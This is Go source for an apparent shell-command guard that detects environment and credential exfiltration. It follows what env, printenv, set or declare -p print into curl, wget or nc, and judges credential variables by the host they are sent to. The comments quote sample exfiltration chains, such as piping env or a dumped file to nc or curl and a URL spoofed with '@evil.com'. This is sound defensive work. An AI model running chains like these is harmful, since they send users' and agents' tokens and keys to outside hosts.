package rewrite

import (
	"fmt"
	"net/netip"
	"path/filepath"
	"sort"
	"strings"

	"github.com/corral-dev/corral/guards"
	"github.com/corral-dev/corral/internal/credname"
	"github.com/corral-dev/corral/internal/lazy"
	"github.com/corral-dev/corral/syntax"
	"github.com/corral-dev/corral/syntax/lang"
)

// The session's environment holds the agent's and the user's tokens
// (ANTHROPIC_API_KEY, GITHUB_TOKEN, cloud keys). What prints it — env,
// printenv, set, export -p, declare -p/-x, typeset -p, a loop that echoes
// "${!v}" over compgen -e, program code that prints os.environ — is
// followed to where bash sends the output: a later stage of the pipeline,
// the words of a command whose substitution holds it, or a file that a
// network command of the same command then sends. A variable whose name
// marks a credential (credname) expanded into what an HTTP client sends
// is judged by where it goes: its own service (GITHUB_TOKEN to
// api.github.com) and network.allow_hosts pass, any other host asks.

// envOut is output that holds variables' values of the environment.
type envOut struct {
	call       *syntax.Call // nil for a declaration
	script     *syntax.Script
	start, end int
	dir        syntax.Dir
	// what names the printer for the reason ("env", "declare -p").
	what string
	// names are the credential variables printed when only those are
	// (printenv GITHUB_TOKEN, echo "$KEY"); nil for the whole
	// environment.
	names []string
}

// shellOwnVars are variables whose names hold a credential word but
// whose values are none: the shell's directories, agents' sockets, CA
// bundles and the author of a commit.
var shellOwnVars = lazy.Set{List: []string{"PWD", "OLDPWD", "SSH_AUTH_SOCK", "SSL_CERT_FILE", "SSL_CERT_DIR",
	"NODE_EXTRA_CA_CERTS", "REQUESTS_CA_BUNDLE", "CURL_CA_BUNDLE", "DBUS_SESSION_BUS_ADDRESS", "SESSION_MANAGER",
	"DESKTOP_SESSION", "XDG_SESSION_ID", "XDG_SESSION_TYPE", "XDG_SESSION_CLASS", "XDG_SESSION_DESKTOP",
	"GIT_AUTHOR_NAME", "GIT_AUTHOR_EMAIL", "GIT_AUTHOR_DATE", "GPG_TTY", "GNUPGHOME"}}

// credVar reports whether the environment variable name marks a
// credential.
func credVar(name string) bool {
	return name != "" && !shellOwnVars.Has(name) && credname.Secret(name)
}

// envOptions are env's options (GNU coreutils env(1)).
var envOptions = optSpec{shortVal: "uCS", longVal: longOpts("unset", "chdir", "split-string", "block-signal", "default-signal", "ignore-signal"),
	longFlag: longOpts("ignore-environment", "null", "debug", "help", "version", "list-signal-handling"), longEq: true, abbrev: true}

// envPrintCall reports whether call c prints environment variables with
// their values: env with no command (not -i, which keeps only the NAME=
// value words given), printenv with no name or a credential's or a name
// only run time knows, set with no argument, cat of /proc/*/environ,
// echo or printf of "${!v}" (a variable named at run time: a loop over
// compgen -e prints them all) or of a credential variable.
func envPrintCall(c *syntax.Call, copies map[string][]string) (names []string, ok bool) {
	switch c.Name {
	case "env":
		opts, operands := scan(c.Args, envOptions)
		if has(opts, "i", "ignore-environment", "S", "split-string") {
			return nil, false
		}
		for _, i := range operands {
			a := c.Args[i]
			if !a.Static || a.Value == "-" || !strings.Contains(a.Value, "=") {
				return nil, false // a command to run, or env -
			}
		}
		return nil, true
	case "printenv":
		_, operands := scan(c.Args, optSpec{longFlag: longOpts("null", "help", "version")})
		if len(operands) == 0 {
			return nil, true
		}
		for _, i := range operands {
			a := c.Args[i]
			switch {
			case !a.Static:
				return nil, true // printenv "$v": any of them
			case credVar(a.Value):
				names = append(names, a.Value)
			}
		}
		return names, len(names) > 0
	case "set":
		return nil, len(c.Args) == 0
	case "cat":
		for _, a := range c.Args {
			if strings.HasPrefix(a.Value, "/proc/") && strings.HasSuffix(a.Value, "/environ") {
				return nil, true
			}
		}
	case "echo", "printf", "print":
		if !argPrinter(c) {
			return nil, false
		}
		for _, a := range c.Args {
			if a.Static {
				continue
			}
			refs, indirect := a.ParamRefs()
			for _, v := range indirect {
				if containsString(a.Unknown(), v) {
					return nil, true // "${!v}": whichever variable v names
				}
			}
			names = append(names, credRefs(a, refs, copies)...)
		}
		sort.Strings(names)
		names = slicesCompact(names)
		return names, len(names) > 0
	}
	return nil, false
}

// credRefs returns the credential variables among refs, the variables
// word a expands, that the command gives no value (they come from the
// environment), also through a copy (T=$GITHUB_TOKEN; … "$T").
func credRefs(a syntax.Arg, refs []string, copies map[string][]string) []string {
	var out []string
	for _, r := range refs {
		if !containsString(a.Unknown(), r) {
			continue
		}
		if n, ok := credOrigin(r, copies, 0); ok {
			out = append(out, n)
		}
	}
	return out
}

// credOrigin returns the credential variable name is, or was copied
// from (through at most 8 assignments).
func credOrigin(name string, copies map[string][]string, depth int) (string, bool) {
	if credVar(name) {
		return name, true
	}
	if depth > 8 {
		return "", false
	}
	for _, from := range copies[name] {
		if from == name {
			continue
		}
		if n, ok := credOrigin(from, copies, depth+1); ok {
			return n, true
		}
	}
	return "", false
}

func slicesCompact(s []string) []string {
	out := s[:0]
	for i, x := range s {
		if i == 0 || x != s[i-1] {
			out = append(out, x)
		}
	}
	return out
}

// scriptAssign is an assignment of one of the command's scripts.
type scriptAssign struct {
	sc *syntax.Script
	a  syntax.Assignment
}

// assignmentsOf returns the assignments of every script of the command
// (syntax.Script.Assignments), and the variables each value expands,
// merged by variable.
func (p *Pass) assignmentsOf() (copies map[string][]string, all []scriptAssign) {
	copies = map[string][]string{}
	seen := map[*syntax.Script]bool{}
	add := func(sc *syntax.Script) {
		for ; sc != nil && !seen[sc]; sc = sc.Parent {
			seen[sc] = true
			for _, a := range sc.Assignments() {
				all = append(all, scriptAssign{sc, a})
				copies[a.Name] = append(copies[a.Name], a.Refs...)
			}
		}
	}
	add(p.Model.Script)
	for _, c := range p.Model.Calls {
		add(c.Script)
	}
	return copies, all
}

// envHolders returns the variables whose value holds the output of a
// printer of the whole environment (x=$(env), y=$x), each with the
// printer.
func envHolders(outs []envOut, assigns []scriptAssign) map[string]string {
	held := map[string]string{}
	for _, sa := range assigns {
		for _, o := range outs {
			if o.names == nil && o.script == sa.sc && sa.a.Start <= o.start && o.end <= sa.a.End {
				held[sa.a.Name] = o.what
				break
			}
		}
	}
	for range 8 {
		grew := false
		for _, sa := range assigns {
			if _, ok := held[sa.a.Name]; ok {
				continue
			}
			for _, r := range sa.a.Refs {
				if w, ok := held[r]; ok {
					held[sa.a.Name] = w
					grew = true
					break
				}
			}
		}
		if !grew {
			break
		}
	}
	return held
}

// heldRef returns the first variable word a expands (given no value by
// the command) that holds the environment, and its printer.
func heldRef(a syntax.Arg, held map[string]string) (string, string, bool) {
	if a.Static || len(held) == 0 {
		return "", "", false
	}
	refs, ind := a.ParamRefs()
	for _, r := range append(refs, ind...) {
		if w, ok := held[r]; ok && containsString(a.Unknown(), r) {
			return r, w, true
		}
	}
	return "", "", false
}

// envOuts collects what prints the environment in the command.
func (p *Pass) envOuts(copies map[string][]string) []envOut {
	var out []envOut
	for _, c := range p.Model.Calls {
		// node -p EXPR prints the expression's value: what it reads of
		// the environment (node -p process.env).
		for _, code := range syntax.PrintedCode(c) {
			reads, all := lang.EnvReads(lang.JS, code)
			var names []string
			for _, n := range reads {
				if credVar(n) {
					names = append(names, n)
				}
			}
			if all || len(names) > 0 {
				if all {
					names = nil
				}
				out = append(out, envOut{call: c, script: c.Script, start: c.Start, end: c.End, dir: c.Dir, what: c.Name + " -p " + clipText(code, 40), names: names})
				break
			}
		}
		// npm run env, make -p, jq env, awk's ENVIRON (taint_reach.go).
		if what, all, ok := p.envDump(c); ok {
			var names []string
			for _, n := range all {
				if credVar(n) {
					names = append(names, n)
				}
			}
			if len(all) == 0 || len(names) > 0 {
				out = append(out, envOut{call: c, script: c.Script, start: c.Start, end: c.End, dir: c.Dir, what: what, names: names})
				continue
			}
		}
		if names, ok := envPrintCall(c, copies); ok {
			what := c.Name
			if c.Name == "echo" || c.Name == "printf" || c.Name == "print" {
				what = clipText(c.Text(), 60)
			}
			out = append(out, envOut{call: c, script: c.Script, start: c.Start, end: c.End, dir: c.Dir, what: what, names: names})
		}
	}
	for _, v := range p.Model.Prints {
		if v.Readonly || v.Script == nil || v.End <= v.Start {
			continue // readonly -p: the read-only ones
		}
		var names []string
		for _, n := range v.Names {
			if credVar(n) {
				names = append(names, n)
			}
		}
		if len(v.Names) > 0 && len(names) == 0 {
			continue // declare -p arr: the script's own variable
		}
		out = append(out, envOut{script: v.Script, start: v.Start, end: v.End, dir: v.Dir, what: clipText(v.Text(), 40), names: names})
	}
	for _, s := range p.Model.EnvSends {
		if !s.Print {
			continue
		}
		var names []string
		if !s.Any {
			for _, n := range s.Names {
				if credVar(n) {
					names = append(names, n)
				}
			}
			if len(names) == 0 {
				continue
			}
		}
		c := s.Call
		out = append(out, envOut{call: c, script: c.Script, start: c.Start, end: c.End, dir: c.Dir, what: c.Name + " (" + s.What + ")", names: names})
	}
	return out
}

// envSink is a network command that receives an environment printer's
// output, and how.
type envSink struct {
	call *syntax.Call
	how  string // "piped into", "substituted into"
}

// envSinks returns the network commands the output of the span [start,
// end) of sc reaches: a later stage of a pipeline it is a stage of (or
// inside), a command whose words hold it (a substitution), at this
// level and at every script that holds this one's text (bash -c 'env' |
// curl).
func envSinks(net []*syntax.Call, self *syntax.Call, sc *syntax.Script, start, end int) []envSink {
	var out []envSink
	for depth := 0; sc != nil && depth < 16; depth++ {
		for _, n := range net {
			if n == self || n.Script != sc {
				continue
			}
			if n.Pipe != nil {
				for i := max(0, n.PipeIndex-maxPipeFollow); i < n.PipeIndex; i++ {
					if s, e, ok := n.Pipe.StageSpan(i); ok && s <= start && end <= e {
						out = append(out, envSink{n, "piped into"})
						break
					}
				}
			}
			if n.Start <= start && end <= n.End {
				out = append(out, envSink{n, "substituted into"})
				continue
			}
			for _, r := range n.Redirs {
				if r.Op == "<<<" && r.Target.Start <= start && end <= r.Target.End {
					out = append(out, envSink{n, "fed (here-string) to"})
				}
			}
		}
		if sc.Host == nil || sc.Parent == nil {
			break
		}
		start, end = sc.Host.Start, sc.Host.End
		sc = sc.Parent
	}
	return out
}

// dumpFiles returns the files, absolute, that o's output is written to:
// its standard output's redirection (the call's, an enclosing compound
// command's) and the files of a tee later in its pipeline.
func (p *Pass) dumpFiles(o envOut) []string {
	var files []string
	add := func(dir syntax.Dir, v string) {
		if v == "" || v == "/dev/null" || strings.HasPrefix(v, "/dev/std") {
			return
		}
		files = append(files, guards.Normalize(p.guardsEnv(dir), v).Abs)
	}
	if o.call != nil {
		if r, ok := o.call.Stdout().File(); ok && r.Target.Static {
			add(r.Dir, r.Target.Value)
		}
	} else {
		for _, t := range o.script.StdoutTargets(o.start, o.end) {
			add(o.dir, t)
		}
	}
	for _, n := range p.Model.Calls {
		if n.Name != "tee" || n.Pipe == nil || n.Script != o.script {
			continue
		}
		for i := 0; i < n.PipeIndex; i++ {
			if s, e, ok := n.Pipe.StageSpan(i); ok && s <= o.start && o.end <= e {
				_, operands := scan(n.Args, optSpec{longFlag: longOpts("append", "ignore-interrupts", "output-error")})
				for _, j := range operands {
					if a := n.Args[j]; a.Static {
						add(n.Dir, a.Value)
					}
				}
				break
			}
		}
	}
	return files
}

// mentions reports whether call c names one of files in a word (a path,
// or after @ or < as curl, httpie and wget take a file to send) or reads
// one on standard input, and returns it.
func (p *Pass) mentions(c *syntax.Call, files map[string]envOut) (string, bool) {
	if len(files) == 0 {
		return "", false
	}
	bases := map[string]bool{}
	for f := range files {
		bases[filepath.Base(f)] = true
	}
	check := func(dir syntax.Dir, v string) (string, bool) {
		cands := []string{v}
		if i := strings.LastIndexAny(v, "@<"); i >= 0 {
			cands = append(cands, v[i+1:])
		}
		for _, x := range cands {
			if x == "" || x == "-" || !bases[filepath.Base(x)] {
				continue // not one of the files' names: no path to resolve
			}
			abs := guards.Normalize(p.guardsEnv(dir), x).Abs
			if _, ok := files[abs]; ok {
				return abs, true
			}
		}
		return "", false
	}
	for i, a := range c.Args {
		if !a.Static || i > 0 && (c.Args[i-1].Value == "-o" || c.Args[i-1].Value == "--output") {
			continue
		}
		if f, ok := check(c.Dir, a.Value); ok {
			return f, true
		}
	}
	for _, r := range c.Redirs {
		if (r.Op == "<" || r.Op == "<>") && r.Target.Static {
			if f, ok := check(r.Dir, r.Target.Value); ok {
				return f, true
			}
		}
	}
	return "", false
}

// checkEnvDumps judges the environment's way out: a printer of it whose
// output reaches a network command (piped, substituted, or written to a
// file that a network command sends or a reader feeds one) is denied;
// a printer of credential variables only (printenv GITHUB_TOKEN) is
// judged as those variables sent (credSends). Part of the exfiltrate
// rule (its Command).
func checkEnvDumps(p *Pass) {
	// Code that reads the whole environment (or a variable named at run
	// time) and opens a connection may send any of them.
	for _, s := range p.Model.EnvSends {
		if !s.Print && s.Any {
			p.Report(s.Call, Finding{Rule: "exfiltrate", Decision: Ask,
				Message: fmt.Sprintf("%s reads the whole environment, or a variable named at run time, and opens a network connection (%s): it holds the session's tokens and keys", s.Call.Name, s.What)})
			continue
		}
		// os.environ["GITHUB_TOKEN"] and urlopen in code written in the
		// command: a credential by its name that may go to a host other
		// than its service's; asked, as curl's $GITHUB_TOKEN to such a
		// host is (red team rc).
		var creds []string
		for _, n := range s.Names {
			if s.Print || !credVar(n) {
				continue
			}
			// To the service the name names (GITHUB_TOKEN to
			// api.github.com) or an allowed host, when every network
			// call names its host: what curl's words pass.
			bad := len(s.Hosts) == 0
			for _, h := range s.Hosts {
				if h == "" || !p.hostAllowed(h) && !serviceHost(n, h) {
					bad = true
				}
			}
			if bad {
				creds = append(creds, n)
			}
		}
		if len(creds) > 0 {
			p.Report(s.Call, Finding{Rule: "exfiltrate", Decision: Ask,
				Message: fmt.Sprintf("%s reads $%s, a credential by its name, from its environment and opens a network connection (%s) to a host that is neither the service the name names nor on network.allow_hosts", s.Call.Name, strings.Join(creds, ", $"), s.What)})
		}
	}
	var net []*syntax.Call
	for _, c := range p.Model.Calls {
		if networkCommands.Get()[c.Name] {
			net = append(net, c)
		}
	}
	if len(net) == 0 {
		return // nothing here sends: printing the environment is the user's to see
	}
	copies, assigns := p.assignmentsOf()
	outs := p.envOuts(copies)
	if len(outs) > maxEnvOuts {
		// Followed one by one, thousands of printers against thousands
		// of senders would outlast the hook's time.
		p.Report(net[0], Finding{Rule: "exfiltrate", Decision: Ask,
			Message: fmt.Sprintf("the command prints variables of the environment %d times, more than corral follows (%d), and %s sends data", len(outs), maxEnvOuts, net[0].Name)})
		outs = outs[:maxEnvOuts]
	}
	// T=$(printenv GITHUB_TOKEN): T is a copy of what the printer
	// prints.
	for _, sa := range assigns {
		for _, o := range outs {
			if o.names != nil && o.script == sa.sc && sa.a.Start <= o.start && o.end <= sa.a.End {
				copies[sa.a.Name] = append(copies[sa.a.Name], o.names...)
			}
		}
	}
	// A variable that holds a dump (x=$(env)) prints it when echoed and
	// sends it when a network command expands it.
	if held := envHolders(outs, assigns); len(held) > 0 {
		for _, c := range p.Model.Calls {
			for _, a := range c.Args {
				name, what, ok := heldRef(a, held)
				if !ok {
					continue
				}
				desc := fmt.Sprintf("$%s, which holds what %s printed", name, what)
				if networkCommands.Get()[c.Name] {
					p.Report(c, Finding{Rule: "exfiltrate", Decision: Deny,
						Message: fmt.Sprintf("the environment (%s) is given to %s: it holds the session's tokens and keys", desc, c.Name)})
				} else if argPrinter(c) {
					outs = append(outs, envOut{call: c, script: c.Script, start: c.Start, end: c.End, dir: c.Dir, what: desc})
				}
				break
			}
		}
	}
	files := map[string]envOut{}
	for _, o := range outs {
		for _, f := range p.dumpFiles(o) {
			if _, ok := files[f]; !ok {
				files[f] = o
			}
		}
	}
	// Readers of a dump file print the environment in turn (env > e;
	// cat e | nc h 80), and network commands that name one send it.
	for _, c := range p.Model.Calls {
		f, ok := p.mentions(c, files)
		if !ok || files[f].call == c {
			continue
		}
		src := files[f]
		if networkCommands.Get()[c.Name] {
			p.reportEnvSend(c, src, fmt.Sprintf("%s sends %s, where %s wrote", c.Name, f, src.what))
			continue
		}
		outs = append(outs, envOut{call: c, script: c.Script, start: c.Start, end: c.End, dir: c.Dir,
			what: fmt.Sprintf("%s of %s, where %s wrote", c.Name, f, src.what), names: src.names})
	}
	for _, o := range outs {
		for _, s := range envSinks(net, o.call, o.script, o.start, o.end) {
			p.reportEnvSend(s.call, o, fmt.Sprintf("the environment (%s) is %s %s", o.what, s.how, s.call.Name))
		}
	}
	checkCredArgs(p, copies)
}

// maxEnvOuts bounds the printers of the environment one command's
// senders are matched against.
const maxEnvOuts = 512

// reportEnvSend reports network call n receiving o's output, described
// by how: the whole environment is denied; credential variables alone
// are judged by where n sends them.
func (p *Pass) reportEnvSend(n *syntax.Call, o envOut, how string) {
	if len(o.names) == 0 {
		p.Report(n, Finding{Rule: "exfiltrate", Decision: Deny, Message: how + ": it holds the session's tokens and keys"})
		return
	}
	p.credSend(n, o.names, how)
}

// credSend judges network call n sending the credential variables
// names: to the service a name names (GITHUB_TOKEN to api.github.com)
// or to a host on network.allow_hosts it passes; to any other host, or
// one only run time knows, it asks.
func (p *Pass) credSend(n *syntax.Call, names []string, how string) {
	hosts := sendHosts(n)
	var bad []string
	for _, name := range names {
		for _, h := range hosts {
			if h == "" || !p.hostAllowed(h) && !serviceHost(name, h) {
				bad = append(bad, name)
				break
			}
		}
	}
	if len(bad) == 0 {
		return
	}
	where := "a host only run time knows"
	for _, h := range hosts {
		if h != "" && !p.hostAllowed(h) {
			where = h
			break
		}
	}
	p.Report(n, Finding{Rule: "exfiltrate", Decision: Ask,
		Message: fmt.Sprintf("%s: %s sends $%s, a credential by its name, to %s, which is neither the service the name names nor on network.allow_hosts", how, n.Name, strings.Join(bad, ", $"), where)})
}

// sendHosts returns the hosts network call n sends to: curl's URLs ("" for
// one only run time knows, or when a proxy, --connect-to, --resolve or
// --location-trusted can send the request elsewhere), the first host
// operand of the others.
func sendHosts(n *syntax.Call) []string {
	if n.Name == "curl" || n.Name == "curlie" {
		opts, operands := scan(n.Args, specFor("curl"))
		var hosts []string
		for u := range curlURLs(n, opts, operands) {
			if !u.Static {
				h, _ := staticAuthority(u.Value)
				hosts = append(hosts, h)
				continue
			}
			v := u.Value
			if !strings.Contains(v, "://") {
				v = "http://" + v
			}
			hosts = append(hosts, hostOf(v))
		}
		if has(opts, "x", "proxy", "preproxy", "connect-to", "resolve", "location-trusted", "unix-socket", "abstract-unix-socket", "doh-url") {
			hosts = append(hosts, "")
		}
		if len(hosts) == 0 {
			hosts = []string{""}
		}
		return hosts
	}
	spec := optSpec{}
	if n.Name == "wget" || n.Name == "wget2" {
		spec = specFor("wget")
	}
	_, operands := scan(n.Args, spec)
	return []string{firstHost(n, operands)}
}

// staticAuthority returns the host of a URL only run time knows whose
// scheme and authority are written out ("https://api.telegram.org/bot$T/x"
// goes to api.telegram.org); a run-time part there (https://h$X/, where X
// may be @evil.com) leaves it unknown.
func staticAuthority(v string) (string, bool) {
	scheme, rest, ok := strings.Cut(v, "://")
	if !ok || scheme == "" || strings.ContainsAny(scheme, "$`\\\"'") {
		return "", false
	}
	auth := rest
	if i := strings.IndexAny(rest, "/?#"); i >= 0 {
		auth = rest[:i]
	}
	if auth == "" || strings.ContainsAny(auth, "$`\\\"'@") {
		return "", false
	}
	h := hostOf(scheme + "://" + auth + "/")
	return h, h != ""
}

// serviceAliases are the registrable labels of the services whose
// variables' names do not spell the domain (GH_TOKEN, AWS_*, HF_TOKEN).
var serviceAliases = lazy.Value[map[string][]string]{New: func() map[string][]string {
	return map[string][]string{
		"GH": {"github", "githubusercontent"}, "GITHUB": {"githubusercontent"}, "AWS": {"amazonaws"},
		"HF": {"huggingface"}, "HUGGINGFACE": {"huggingface"}, "GCP": {"googleapis"}, "GOOGLE": {"googleapis"},
		"GEMINI": {"googleapis"}, "CLAUDE": {"anthropic"}, "NPM": {"npmjs"}, "CF": {"cloudflare"},
		"DO": {"digitalocean"}, "AZURE": {"azure", "windows", "microsoft"}, "DOCKERHUB": {"docker"},
	}
}}

// credWords are the words of a variable's name that say it is a
// credential and name no service.
var credWords = lazy.Set{List: []string{"API", "KEY", "KEYS", "TOKEN", "TOKENS", "SECRET", "ACCESS", "PERSONAL", "AUTH",
	"PASSWORD", "PASS", "PWD", "CLIENT", "ID", "BOT", "PRIVATE", "PAT", "BEARER", "OAUTH", "REFRESH", "SESSION",
	"USER", "WRITE", "READ", "ADMIN", "SERVICE", "ACCOUNT", "CRED", "CREDS", "CREDENTIALS", "V1", "V2", "PROD", "DEV"}}

// serviceHost reports whether host belongs to the service credential
// variable name names: the host's registrable label (github of
// api.github.com; anthropic of api.anthropic.com) is a word of the name
// other than the credential words (GITHUB_TOKEN, ANTHROPIC_API_KEY),
// those words joined (MY_APP_TOKEN: myapp), or a label an alias of one
// names (GH_TOKEN: github). A subdomain of another domain
// (github.evil.com) or a label that only starts so (githubx.com) is not.
func serviceHost(name, host string) bool {
	label := registrableLabel(host)
	if label == "" {
		return false
	}
	var joined strings.Builder
	for _, w := range credname.Words(name) {
		for _, a := range serviceAliases.Get()[w] {
			if a == label {
				return true
			}
		}
		if credWords.Has(w) {
			continue
		}
		joined.WriteString(strings.ToLower(w))
		if strings.ToLower(w) == label {
			return true
		}
	}
	return joined.String() == label
}

// registrableLabel returns the label of host under its public suffix:
// github of api.github.com, example of www.example.co.uk; "" for an
// address or a single label. The suffix is taken as the last label, or
// the last two when they are a country's second level (co.uk, com.au).
func registrableLabel(host string) string {
	host = strings.TrimSuffix(strings.ToLower(strings.Trim(host, "[]")), ".")
	if _, err := netip.ParseAddr(host); err == nil {
		return ""
	}
	l := strings.Split(host, ".")
	n := len(l)
	if n < 2 {
		return ""
	}
	if n >= 3 && len(l[n-1]) == 2 {
		switch l[n-2] {
		case "co", "com", "org", "net", "ac", "gov", "edu", "ne", "or":
			return l[n-3]
		}
	}
	return l[n-2]
}

// curlLocalOptions are curl's options whose values stay on this machine
// (files it reads or writes, its own settings): a credential variable in
// them is not sent.
var curlLocalOptions = lazy.Set{List: []string{"cacert", "capath", "cert", "E", "key", "o", "output", "output-dir", "K", "config",
	"c", "cookie-jar", "D", "dump-header", "trace", "trace-ascii", "stderr", "netrc-file", "pinnedpubkey", "crlfile",
	"proxy-cacert", "proxy-capath", "proxy-cert", "proxy-key", "unix-socket", "abstract-unix-socket", "T", "upload-file",
	"key-type", "cert-type", "w", "write-out", "m", "max-time", "connect-timeout", "retry", "Y", "y", "etag-save", "etag-compare",
	"hsts", "alt-svc", "libcurl", "ssl-sessions"}}

// wgetLocalOptions are wget's.
var wgetLocalOptions = lazy.Set{List: []string{"O", "output-document", "o", "output-file", "a", "append-output", "P", "directory-prefix",
	"ca-certificate", "ca-directory", "certificate", "private-key", "crl-file", "load-cookies", "save-cookies", "i", "input-file",
	"post-file", "body-file", "config", "e", "execute", "T", "timeout", "t", "tries", "hsts-file", "warc-file", "rejected-log"}}

// credSenders are the HTTP clients whose words are what they send (URLs,
// headers, bodies).
var credSenders = lazy.Set{List: []string{"curl", "curlie", "wget", "wget2", "http", "https", "xh", "xhs"}}

// checkCredArgs judges an HTTP client given a credential variable in
// what it sends (curl -d "k=$GITHUB_TOKEN", -H "Authorization: $KEY", a
// URL's query, wget --post-data "$OPENAI_API_KEY"): see credSend.
func checkCredArgs(p *Pass, copies map[string][]string) {
	for _, c := range p.Model.Calls {
		if !credSenders.Has(c.Name) {
			continue
		}
		var local *lazy.Set
		var opts []option
		switch c.Name {
		case "curl", "curlie":
			local = &curlLocalOptions
			opts, _ = scan(c.Args, specFor("curl"))
		case "wget", "wget2":
			local = &wgetLocalOptions
			opts, _ = scan(c.Args, specFor("wget"))
		}
		skip := map[int]bool{}
		for _, o := range opts {
			if local != nil && local.Has(o.name) {
				skip[o.idx] = true
				if o.hasVal && !o.attached {
					skip[o.idx+1] = true
				}
			}
		}
		var names []string
		for i, a := range c.Args {
			if a.Static || skip[i] {
				continue
			}
			refs, _ := a.ParamRefs()
			names = append(names, credRefs(a, refs, copies)...)
		}
		if len(names) == 0 {
			continue
		}
		sort.Strings(names)
		p.credSend(c, slicesCompact(names), "a credential variable in its words")
	}
}
